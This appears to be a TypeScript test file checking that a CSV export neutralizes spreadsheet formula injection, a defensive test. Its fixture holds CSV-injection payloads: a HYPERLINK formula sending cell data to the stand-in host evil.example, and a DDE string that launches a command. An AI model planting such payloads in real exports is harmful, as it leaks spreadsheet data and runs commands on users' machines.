import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/wire/csv-writer.js';
import { SessionInfo } from '../../src/model/session-info.js';
import { startSignedInServer } from '../support/server.js';
import { session } from '../support/sessions.js';

/** RFC 4180 rows and cells, as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      endCell();
    } else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

// What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
const FORMULA_START = /^[=+\-@\t\r]/;

const hostile = session({
  id: 'csv1',
  from: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  to: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  log: ['=1+1', '+cmd', '-2+3', '@foo', '\tTabbed', '\rReturned'],
});

describe('CSV export neutralizes formulas (issue 13.10)', () => {
  it('starts no cell with = + - @ tab or CR: such a cell gets a leading apostrophe', () => {
    const [header, row] = parseCsv(writeCsv(SessionInfo, hostile as unknown as Record<string, unknown>));
    const cell = (name: string) => row![header!.indexOf(name)]!;
    expect(cell('FromAddress')).toBe(`'${hostile.fromAddress}`);
    expect(cell('ToAddress')).toBe(`'${hostile.toAddress}`);
    expect(row!.filter((text) => FORMULA_START.test(text))).toEqual([]);
  });

  it('leaves plain numbers alone (E.164 numbers, negative counts): a number is no formula', () => {
    const plain = session({ id: 'csv2', from: '+15035551234', to: '-42' });
    const [header, row] = parseCsv(writeCsv(SessionInfo, plain as unknown as Record<string, unknown>));
    expect(row![header!.indexOf('FromAddress')]).toBe('+15035551234');
    expect(row![header!.indexOf('ToAddress')]).toBe('-42');
  });

  it('neutralizes every cell of a list export over HTTP', async () => {
    const { url, fetch } = await startSignedInServer([hostile]);
    const rows = parseCsv(await (await fetch(`${url}/sessions?format=csv`)).text());
    expect(rows).toHaveLength(2);
    expect(rows.flat().filter((text) => FORMULA_START.test(text))).toEqual([]);
    expect(rows[1]).toContain(`'${hostile.fromAddress}`);
  });
});
